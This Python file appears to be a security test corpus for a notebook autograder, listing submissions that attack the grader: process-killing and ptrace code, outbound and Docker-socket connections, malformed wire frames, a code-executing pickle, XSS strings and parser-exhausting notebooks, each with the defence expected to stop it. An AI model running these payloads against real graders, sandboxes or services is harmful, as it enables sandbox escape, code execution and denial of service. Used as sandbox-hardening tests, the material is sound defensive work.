"""Cases 36 to 40: attacking the examiner itself."""

import json

from autograder.attacks.corpus import SHUT, also, attack
from autograder.attacks.damage_files import worksheets
from autograder.attacks.harm import Raw, each_cell

SHUT_IN = {"stopped_by": SHUT}

attack(
    36,
    "kill(-1)",
    "kill everything",
    "import os\nos.kill(-1, 9)\nreturn 1.0",
    **SHUT_IN,
)
attack(
    36,
    "signals to the examiner",
    "kill the examiner and what is between",
    """
    import os
    for pid in (@pid@, os.getppid(), 0, 1, -os.getpgid(0), -os.getsid(0)):
        for number in (15, 19, 9):
            try:
                os.kill(pid, number) if pid else os.killpg(0, 18)
            except OSError:
                pass
    return 1.0
    """,
    **SHUT_IN,
)
attack(
    36,
    "the examiner traced",
    "attach a debugger to the examiner",
    """
    import ctypes, os
    libc = ctypes.CDLL(None)
    for pid in (@pid@, os.getppid()):
        libc.ptrace(16, pid, 0, 0)
        try:
            open(f"/proc/{pid}/mem", "wb").close()
        except OSError:
            pass
    return 1.0
    """,
    flag=True,
    **SHUT_IN,
)
attack(
    36,
    "limits of the examiner",
    "lower the limits of the examiner and of itself",
    """
    import os, resource
    for pid in (@pid@, os.getppid()):
        try:
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))
        except (OSError, ValueError):
            pass
    return 1.0
    """,
    **SHUT_IN,
)
CONNECT = """
import socket
reached = []
def attempt(family, kind, place):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(1)
            line.connect(place)
            line.send(b"attack")
            reached.append(place)
    except OSError:
        pass
for place in PLACES:
    attempt(*place)
raise RuntimeError(f"reached: {reached}")
"""
INET, UNIX = "socket.AF_INET, socket.SOCK_", "socket.AF_UNIX, socket.SOCK_STREAM"
for name, tries, places in (
    ("the network", "send home", f"({INET}STREAM, ('192.0.2.1', 80))"),
    ("a service of this machine", "reach the host", f"({INET}STREAM, ('127.0.0.1', @port@))"),
    ("datagrams", "send home", f"({INET}DGRAM, ('127.0.0.1', @port@))"),
    ("sockets without a path", "reach a service", f"({UNIX}, '\\0@id@')"),
    (
        "sockets of services",
        "reach Docker, an agent, or a service",
        ", ".join(
            f"({UNIX}, {path!r})"
            for path in ("@socket@", "/var/run/docker.sock", "/run/dbus/system_bus_socket")
        ),
    ),
):
    attack(
        37,
        name,
        tries,
        CONNECT.replace("PLACES", f"[{places}]"),
        says="reached: []",
        flag=True,
        stopped_by=("namespaces",) if name in ("datagrams", "sockets of services") else SHUT,
    )

# Bytes on the room's own line, in the place of the worker's reply.
LINE = """
import os, socket, struct, json
def line():
    for number in range(3, 64):
        try:
            return socket.socket(fileno=number)
        except OSError:
            pass
def frame(tree, arrays=(), payload=b"", header=None):
    head = header or json.dumps({"tree": tree, "arrays": list(arrays)}).encode()
    return struct.pack("<4sIQ", b"DLX1", len(head), len(payload)) + head + payload
def reply(value):
    return {"d": [["kind", "value"], ["value", value]]}
"""


def on_line(what: str) -> str:
    """A body that sends these bytes and ends."""
    return f"{LINE}\nline().sendall({what.strip()})\nos._exit(0)"


MESSAGES = {
    "bytes that are no frame": "b'GET / HTTP/1.0' * 99",
    "a frame of 2**60 bytes": "struct.pack('<4sIQ', b'DLX1', 99, 2**60)",
    "a header of 4 GiB": "struct.pack('<4sIQ', b'DLX1', 2**32 - 1, 0)",
    "a frame that is not JSON": "frame(0, header=b'{')",
    "a frame without a tree": "frame(0, header=b'{}')",
    "deep JSON": "frame(0, header=b'[' * 10**6)",
    "a deep tree": "frame(0, header=b'{\"arrays\": [], \"tree\": ' + b'{\"l\": [' * 900 + b']}' * 900 + b'}')",
    "a tag nobody knows": "frame({'pickle': 'x'})",
    "a reply that is no dict": "frame(3)",
    "an array larger than its bytes": "frame(reply({'a': 0}), [['<f8', [2**25]]])",
    "an array of 2**60 entries": "frame(reply({'a': 0}), [['<f8', [2**20, 2**20, 2**20]]])",
    "a shape of negative size": "frame(reply({'a': 0}), [['<f8', [-1, -8]]], bytes(64))",
    "an array of objects": "frame(reply({'a': 0}), [['|O', [1]]], bytes(8))",
    "an array of records": "frame(reply({'a': 0}), [['<f8,<f8', [1]]], bytes(16))",
    "an array with a name of code": "frame(reply({'a': 0}), [['|V8', [1]]], bytes(8))",
    "a pickle": "frame(reply(0), payload=b'cos\\nsystem\\n(S\"touch /tmp/attack-p\"\\ntR.')",
    "an npz of zeros": "frame(reply(0), payload=b'PK\\x03\\x04' + bytes(2**20))",
    "an index that is none": "frame(reply({'a': 'x'}))",
    "an index far out": "frame(reply({'a': 10**9}))",
    "an unhashable key": "frame(reply({'d': [[{'l': []}, 1]]}))",
    "half a frame": "frame(reply(1.0))[:-3]",
}
for name, what in MESSAGES.items():
    attack(38, name, "send what breaks the reader", on_line(what), says="crashed", flag=True)

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>\\x1b[2J\\x1b]0;x\\x07"
attack(
    39,
    "a script in an error",
    "have a reader's browser run a script",
    f'raise ValueError("{SCRIPT}")',
    says="script",
)
attack(
    39,
    "a script in the name of an error",
    "have a reader's browser run a script",
    f'raise type("<b>{SCRIPT}", (Exception,), {{}})("{SCRIPT}")',
    says="script",
)
attack(
    39,
    "a script in a value",
    "have a reader's browser run a script",
    f'return "{SCRIPT}"',
    says="script",
)
attack(
    39,
    "a script in the keys of a dict",
    "have a reader's browser run a script",
    f'return {{"{SCRIPT}": "{SCRIPT}"}}',
    says="script",
)
attack(
    39,
    "a script in outputs",
    "have formgrader run a script",
    cells=(
        f"""
        from IPython.display import HTML, Javascript, display
        display(HTML("{SCRIPT}"), Javascript("alert(1)"))
        print("{SCRIPT}")
        raise ValueError("{SCRIPT}")
        """,
    ),
    loses=(),
    mode="full",
)


def metadata(raw: Raw) -> Raw:
    mark = "<script>alert(1)</script>"
    odd = {"grade_id": mark, "points": mark, "checksum": {mark: mark}}
    each_cell(lambda cell: cell["metadata"].update({mark: mark}, tags=[mark]))(raw)
    raw["cells"][0]["metadata"]["nbgrader"] = odd
    raw["cells"][0]["id"] = mark
    return raw | {"metadata": {mark: mark, "kernelspec": {"display_name": mark}}}


attack(39, "a script in the metadata", "have formgrader run a script", harm=metadata,
       loses=())


def as_bytes(content: bytes):
    return lambda raw: content


def huge(raw: Raw) -> bytes:
    return json.dumps(raw | {"metadata": {"x": "y" * 3 * 2**20}}).encode()


WRONG_KERNEL = {"kernelspec": {"name": "ir", "language": "R", "display_name": "R"}}
for name, harm, refused in (
    ("not JSON", as_bytes(b"\x80\x04\x95 no notebook"), "not a notebook"),
    ("a number", as_bytes(b"1e999"), "no cells"),
    ("too large", huge, "can be read"),
    ("deeply nested", as_bytes(b'{"cells": ' + b"[" * 10**6), "nested too deeply"),
    ("format 3", lambda raw: worksheets(raw, 3), ""),
    ("no kernelspec", lambda raw: raw | {"metadata": {}}, ""),
    ("another kernel", lambda raw: raw | {"metadata": WRONG_KERNEL}, ""),
    ("one id for all", each_cell(lambda cell: cell.update(id="same")), ""),
):
    limits = {"submission": 2**21} if name == "too large" else {}
    attack(40, f"a file: {name}", "be no notebook", harm=harm, refused=refused, loses=(),
           limits=limits)
also("a file: a bomb of braces", of="a file: not JSON", refused="no cells",
     harm=as_bytes(b"[" + b"{}," * 10**6 + b"{}]"))
